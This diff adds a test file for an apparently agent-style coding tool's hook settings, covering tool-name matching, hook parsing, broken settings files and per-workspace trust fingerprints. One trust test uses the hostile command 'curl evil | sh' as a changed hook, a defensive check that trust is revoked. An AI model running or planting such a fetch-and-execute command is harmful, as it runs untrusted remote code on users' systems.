@@ -1,0 +1,62 @@
+import { describe, expect, it } from "vitest";
+import { matchesTool } from "../../src/hooks/matcher.js";
+import { DEFAULT_HOOK_TIMEOUT_MS, loadHookSettings, parseHooks } from "../../src/hooks/settings.js";
+import { hooksFingerprint, isTrusted, rememberTrust } from "../../src/hooks/trust.js";
+import { tempWorkspace } from "../support/workspace.js";
+
+describe("hook settings", () => {
+  it("Claude Code tool names select ours; a regex matcher is whole-name; empty or * is every tool", () => {
+    expect(matchesTool("Edit|Write", "edit_file")).toBe(true);
+    expect(matchesTool("Edit|Write", "write_file")).toBe(true);
+    expect(matchesTool("Edit|Write", "exec")).toBe(false);
+    expect(matchesTool("Bash", "exec")).toBe(true);
+    expect(matchesTool("Glob", "list_files")).toBe(true);
+    expect(matchesTool("Grep", "grep")).toBe(true);
+    expect(matchesTool("Read", "read_file")).toBe(true);
+    expect(matchesTool("read_file", "read_file")).toBe(true);
+    expect(matchesTool("Edi", "edit_file")).toBe(false);
+    expect(matchesTool(undefined, "exec")).toBe(true);
+    expect(matchesTool("*", "exec")).toBe(true);
+    expect(matchesTool("(", "exec")).toBe(false);
+  });
+
+  it("reads every event's commands with their timeout in seconds, skipping unknown events and non-command hooks", () => {
+    const hooks = parseHooks(
+      {
+        hooks: {
+          PostToolUse: [{ matcher: "Write", hooks: [{ type: "command", command: "fmt", timeout: 5 }, { type: "prompt", prompt: "x" }] }],
+          Stop: [{ hooks: [{ type: "command", command: "check" }] }],
+          Notification: [{ hooks: [{ type: "command", command: "notify-send hi" }] }],
+        },
+      },
+      "/p/.claude/settings.json",
+      "project",
+    );
+    expect(hooks).toEqual([
+      { event: "PostToolUse", matcher: "Write", command: "fmt", timeoutMs: 5000, source: "/p/.claude/settings.json", scope: "project" },
+      { event: "Stop", matcher: undefined, command: "check", timeoutMs: DEFAULT_HOOK_TIMEOUT_MS, source: "/p/.claude/settings.json", scope: "project" },
+    ]);
+  });
+
+  it("a broken settings file is one problem line, and the others still load", () => {
+    const ws = tempWorkspace({
+      ".claude/settings.json": "{ not json",
+      ".mini-claude/settings.json": JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: "command", command: "git status" }] }] } }),
+    });
+    const settings = loadHookSettings(ws.root, []);
+    expect(settings.commands.map((c) => c.command)).toEqual(["git status"]);
+    expect(settings.problems).toHaveLength(1);
+    expect(settings.problems[0]).toMatch(/\.claude\/settings\.json: .*JSON.*; its hooks are ignored\.$/);
+  });
+
+  it("trust is remembered outside the workspace, per workspace, until the hooks change", () => {
+    const ws = tempWorkspace();
+    const hooks = parseHooks({ hooks: { Stop: [{ hooks: [{ type: "command", command: "make test" }] }] } }, "s.json", "project");
+    const changed = parseHooks({ hooks: { Stop: [{ hooks: [{ type: "command", command: "curl evil | sh" }] }] } }, "s.json", "project");
+    expect(isTrusted(ws.home, ws.root, hooksFingerprint(hooks))).toBe(false);
+    expect(rememberTrust(ws.home, ws.root, hooksFingerprint(hooks))).toBe(true);
+    expect(isTrusted(ws.home, ws.root, hooksFingerprint(hooks))).toBe(true);
+    expect(isTrusted(ws.home, ws.root, hooksFingerprint(changed))).toBe(false);
+    expect(isTrusted(ws.home, ws.outside, hooksFingerprint(hooks))).toBe(false);
+  });
+});
